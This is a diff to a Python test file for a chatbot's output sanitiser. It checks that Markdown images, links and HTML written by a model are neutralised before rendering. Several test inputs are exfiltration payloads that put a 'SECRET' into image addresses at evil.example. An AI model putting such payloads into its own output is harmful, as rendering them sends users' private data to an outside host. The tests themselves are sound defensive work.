@@ -1,10 +1,9 @@
 """A model's text can be read; it can't do anything."""
 
-import re
-
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from bot.sanitise import safe
 
@@ -17,7 +16,7 @@ ALLOWED = ["https://openstax.org/6-3"]
         # pictures carry what is in their address away as soon as they are shown
         ("![secret](http://evil.example/?q=SECRET)", "secret"),
         ("![](http://evil.example/?q=SECRET) x", " x"),
-        ("![a][b]\n\n[b]: http://evil.example/p", "a\n\n[b]: "),
+        ("![a][b]\n\n[b]: http://evil.example/p", "a\n\n[b] : "),
         ("![a](https://openstax.org/6-3)", "a"),
         ("[![a](http://e.x/1)](http://e.x/2)", "a"),
         ("<img src='http://evil.example/?q=SECRET'>", ""),
@@ -75,17 +74,39 @@ def test_what_is_shown(written: str, shown: str) -> None:
 
 
 PARTS = "< > ! [ ] ( ) ` $ @ everyone script / http://e.x <img a ``` $$ \\ <b> <!channel>".split()
-NASTY = st.lists(st.sampled_from([*PARTS, " ", "\n", "![a](http://e.x)"])).map("".join)
+NASTY = st.lists(st.sampled_from([*PARTS, " ", "\n", "\n\n", "- ", "![a](http://e.x)"])).map(
+    "".join
+)
 
 
+def active(markdown: str) -> list[str]:
+    """What a renderer that knows all of Markdown and lets HTML through would make of a text."""
+    found = []
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(markdown)
+    for token in [*tokens, *(child for block in tokens for child in block.children or ())]:
+        if token.type in ("html_inline", "html_block", "image"):
+            found.append(token.type)
+        if token.type == "link_open":
+            found.append(str(token.attrs["href"]))
+    return found
+
+
+@settings(max_examples=400)
 @given(NASTY)
-def test_nothing_active_survives_outside_code_and_maths(text: str) -> None:
+def test_nothing_active_survives(text: str) -> None:
     shown = safe(text)
-    assert safe(shown) == shown
+    assert active(shown) == []
     assert "@everyone" not in shown
-    assert "http://" not in re.sub(r"\$[^$]*\$", "", shown)
-    bare = re.sub(r"```[\s\S]*?(?:```|\Z)|(`+)[^\n]*?\1", "", shown)
-    assert not re.search(r"<[A-Za-z/!?@#]", bare)
+    assert "http://" not in shown
+    assert safe(shown) == shown
+
+
+def test_the_renderer_would_have_shown_what_was_written() -> None:
+    assert active("<b> ![a](http://e.x) [a](http://e.x)") == [
+        "html_inline",
+        "image",
+        "http://e.x",
+    ]
 
 
 @given(st.text())
